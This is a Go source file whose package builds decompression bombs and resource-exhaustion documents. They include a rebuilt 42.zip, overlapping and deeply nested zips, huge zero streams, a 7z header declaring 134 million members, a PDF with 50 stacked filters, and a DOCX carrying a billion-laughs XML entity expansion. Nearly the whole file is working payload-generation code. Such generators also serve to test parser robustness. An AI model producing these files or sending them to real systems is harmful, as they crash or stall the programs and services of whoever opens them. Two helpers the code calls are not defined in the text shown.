// Package bombs makes small files that unpack to very large ones: archives and
// documents that make a program that opens them run out of disk, memory or time. The
// same call makes the same file.
package bombs

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
)

// Bomb is one such file.
type Bomb struct {
	Name    string // of the file
	About   string // one phrase
	Content []byte
}

// All makes all of them; that takes a few seconds.
func All() []Bomb {
	known := FortyTwo()
	return []Bomb{
		{"42.zip", "16 zips in each of 16 zips, five deep, with 4 GB at the bottom: 4.5 PB", known},
		{"42-appended.zip", "the same, with a byte behind it", append(bytes.Clone(known), 'x')},
		{"overlap.zip", "30,000 entries for the same 8 MB: 240 GB", overlapping(30_000)},
		{"quoted.zip", "900 entries, each of which quotes the next: 7 GB", quoting(900)},
		{"zeros.zip", "4 GB of zeros", zipOf("zeros.bin", zeros(4<<30))},
		{"zeros.gz", "1 GB of zeros", gzipOf(zeros(1 << 30))},
		{"empty.tar.gz", "a million empty files", emptyFiles(1_000_000)},
		{"window.zst", "a window of 1 GB", []byte("\x28\xb5\x2f\xfd\x00\xa0\x03\x00\x10x")},
		{"members.7z", "41 bytes that declare 134,217,728 members", declaring(1 << 27)},
		{"nested.zip", "zips in each other, 30 deep", nested(30)},
		{"filters.pdf", "a stream packed with 50 filters", filters(50)},
		{"entities.docx", "entities of entities: 3 GB of text", documentOf(entities)},
		{"text.docx", "500 MB of XML", blankDocument()},
	}
}

// deflated is a stream of deflate and what it unpacks to.
type deflated struct {
	packed []byte
	size   int64
	sum    uint32
}

// repeated returns a block that is said again and again; its length is a divisor of
// size.
func repeated(block []byte, size int64) deflated {
	var out bytes.Buffer
	w, _ := flate.NewWriter(&out, flate.BestCompression) // the level is a valid one
	say := func() { w.Write(block); w.Flush() }
	say()
	say()
	before := out.Len()
	say() // from here on the dictionary is the same each time
	again := bytes.Clone(out.Bytes()[before:])
	d := deflated{size: size}
	n := size / int64(len(block))
	d.packed = append(out.Bytes()[:out.Len():out.Len()], bytes.Repeat(again, int(n-3))...)
	d.packed = append(d.packed, 1, 0, 0, 0xff, 0xff)
	for range n {
		d.sum = crc32.Update(d.sum, crc32.IEEETable, block)
	}
	return d
}

func zeros(n int64) deflated { return repeated(make([]byte, 1<<20), n) }

// zipOf returns a zip with one member.
func zipOf(name string, d deflated) []byte {
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	f, _ := w.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: d.sum, CompressedSize64: uint64(len(d.packed)),
		UncompressedSize64: uint64(d.size)})
	f.Write(d.packed) // memory takes everything
	w.Close()
	return out.Bytes()
}

// packed returns a zip with n copies of a file.
func packed(n int, name string, content []byte) []byte {
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for i := range n {
		f, _ := w.Create(fmt.Sprintf(name, i))
		f.Write(content)
	}
	w.Close()
	return out.Bytes()
}

// FortyTwo returns a zip of the build of 42.zip.
func FortyTwo() []byte {
	file := zipOf("0.dll", zeros(4<<30-1<<20))
	for _, name := range []string{"page %x.zip", "chapter %x.zip", "doc %x.zip", "book %x.zip", "lib %x.zip"} {
		file = packed(16, name, file)
	}
	return file
}

func nested(depth int) []byte {
	file := []byte("Nothing to see here.\n")
	for range depth {
		file = packed(1, "papers-%d.zip", file)
	}
	return file
}

func gzipOf(d deflated) []byte {
	out := append([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), d.packed...)
	out = binary.LittleEndian.AppendUint32(out, d.sum)
	return binary.LittleEndian.AppendUint32(out, uint32(d.size))
}

// emptyFiles returns a tar of n empty files, all by the same header.
func emptyFiles(n int) []byte {
	header := make([]byte, 512)
	copy(header, "empty.txt")
	copy(header[100:], "0000644\x000000000\x000000000\x0000000000000\x0000000000000\x00        0")
	copy(header[257:], "ustar\x0000")
	sum := 0
	for _, b := range header {
		sum += int(b)
	}
	copy(header[148:], fmt.Sprintf("%06o\x00 ", sum))
	const each = 1000
	return gzipOf(repeated(bytes.Repeat(header, each), int64(n)*512))
}

// declaring returns a 7z whose directory declares n members.
func declaring(n uint32) []byte {
	directory := append([]byte{0x01, 0x05, 0xf0}, binary.LittleEndian.AppendUint32(nil, n)...)
	directory = append(directory, 0, 0)
	start := binary.LittleEndian.AppendUint64(nil, 0)
	start = binary.LittleEndian.AppendUint64(start, uint64(len(directory)))
	start = binary.LittleEndian.AppendUint32(start, crc32.ChecksumIEEE(directory))
	out := append([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(start))...)
	return append(append(out, start...), directory...)
}

func filters(n int) []byte {
	return fmt.Appendf(nil, "%%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Length 5 /Filter [ %s] >> "+
		"stream\n31320>\nendstream endobj\ntrailer << >>\n%%%%EOF\n", strings.Repeat("/AHx ", n))
}

// entities is a document type whose last entity expands to 3 GB.
const entities = `<?xml version="1.0"?><!DOCTYPE w:document [` +
	`<!ENTITY a "ha ha ha "><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">` +
	`<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">` +
	`<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">` +
	`<!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>` +
	`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:t>&i;&i;&i;</w:t></w:document>`

func documentOf(text string) []byte {
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	f, _ := w.Create("word/document.xml")
	f.Write([]byte(text))
	w.Close()
	return out.Bytes()
}

// blankDocument returns a document of paragraphs without a word.
func blankDocument() []byte {
	return zipOf("word/document.xml", repeated([]byte(strings.Repeat("<w:p><w:r/></w:p> ", 1<<16)), 18<<16*500))
}
